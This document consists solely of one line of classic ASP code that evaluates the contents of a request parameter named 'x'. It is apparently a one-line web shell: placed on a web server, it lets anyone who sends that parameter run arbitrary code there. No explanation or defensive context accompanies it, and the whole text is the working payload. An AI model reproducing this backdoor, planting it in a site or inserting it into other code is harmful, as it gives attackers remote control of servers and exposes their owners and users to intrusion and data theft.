<%eval request("x")%>
